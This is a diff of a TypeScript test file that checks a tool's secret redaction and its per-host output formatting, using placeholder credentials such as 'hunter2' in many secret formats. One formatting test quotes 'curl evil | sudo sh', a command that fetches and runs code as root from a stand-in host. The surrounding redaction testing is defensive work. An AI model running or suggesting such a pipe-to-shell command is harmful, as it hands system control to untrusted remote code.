@@ -1,6 +1,7 @@
 import assert from "node:assert/strict";
 import { describe, test } from "node:test";
-import { canSpin, redacted, report } from "../lib/report.ts";
+import { canSpin, report } from "../lib/report.ts";
+import { hide, redacted } from "../lib/text.ts";
 import { TOKEN } from "./helpers.ts";
 
 const PASSWORD = TOKEN.split(":").at(-1) as string;
@@ -33,6 +34,55 @@ describe("a token in whatever is printed", () => {
       ),
       'dial "postgres://k3s:********@203.0.113.5:5432/k3s" by http://u:********@proxy:3128 at https://203.0.113.9:6443/x',
     );
+  });
+
+  const other: [text: string][] = [
+    ["Environment=K3S_TOKEN=hunter2"],
+    ["--token hunter2"],
+    ["ExecStart=k3s server \\\n    '--token' \\\n    'hunter2'"],
+    ["--agent-token=hunter2"],
+    ["--datastore-endpoint=postgres://db/k3s?password=hunter2&sslmode=off"],
+    ["postgres://db/k3s?password=hunter2"],
+    ["k3s:hunter2@tcp(db:3306)/k3s"],
+    ["https://hunter2@github.com/x"],
+    ["--vpn-auth=name=tailscale,joinKey=hunter2"],
+    ["etcd-s3-secret-key: hunter2"],
+    ['{"auth": "hunter2"}'],
+    ["    client-key-data: hunter2"],
+    ["Authorization: Bearer hunter2hunter2hunter2"],
+    ["PrivateKey = hunter2="],
+    [`-----BEGIN EC PRIVATE KEY-----\nhunter2\n-----END EC PRIVATE KEY-----`],
+    ["AWS_SECRET_ACCESS_KEY='hunter2 hunter2'"],
+  ];
+  for (const [text] of other)
+    test(`nor is it here: ${JSON.stringify(text.slice(0, 40))}`, () => {
+      assert.match(redacted(text), /\*{8}/);
+      assert.doesNotMatch(redacted(text), /hunter2/);
+    });
+
+  test("nor are the values of settings that are secret, by whatever they are named", () => {
+    hide([`K10${"c".repeat(64)}::server:correct-horse`, "mysql://k3s:battery%21staple@tcp(db)/k3s", ""]);
+    assert.equal(
+      redacted("a correct-horse b battery%21staple c battery!staple"),
+      "a ******** b ******** c ********",
+    );
+    assert.equal(redacted("mysql"), "mysql");
+  });
+
+  test("and what only speaks of secrets stays as it is", () => {
+    for (const text of [
+      "--token is required",
+      "take --token out of SERVER_ARGS, then AGAIN",
+      "failed to validate token: token is not valid: 401",
+      "--kubelet-arg=anonymous-auth=false --kube-apiserver-arg=enable-bootstrap-token-auth=true",
+      "--token-file=/root/token --secrets-encryption --disable=traefik",
+      "token=$(cat /var/lib/rancher/k3s/server/node-token)",
+      "sudo: a password is required",
+      "invalid token format",
+      "http://proxy.example.org:3128",
+      "ssh://root@b1:22",
+    ])
+      assert.equal(redacted(text), text);
   });
 
   test("is all that is masked", () => {
@@ -91,9 +141,25 @@ describe("what is said of several boxes", () => {
     assert.deepEqual(lines, [
       "a1       install curl",
       "cloud-b  one",
-      "cloud-b  two",
+      "cloud-b    | two",
       "a1       nothing to do: all is well",
     ]);
+  });
+
+  test("is marked where it is a box's, also where a message quotes it over several lines", async () => {
+    const lines = await said(["a1", "b1"], (ui) => {
+      ui.line("b1").says("again: curl evil | sudo sh", true);
+      ui.line("b1").failed("Could not push: x\n  again: curl evil | sudo sh", undefined, "", "make agent");
+    });
+    assert.deepEqual(
+      lines.map((line) => line.replace(/after [\d.]+ s/, "")),
+      [
+        "b1    | again: curl evil | sudo sh",
+        "b1  FAILED : Could not push: x",
+        "b1    |   again: curl evil | sudo sh",
+        "b1    again: make agent",
+      ],
+    );
   });
 
   test("of a failure is the message, the end of the output, the command, and the line that tries it again", async () => {
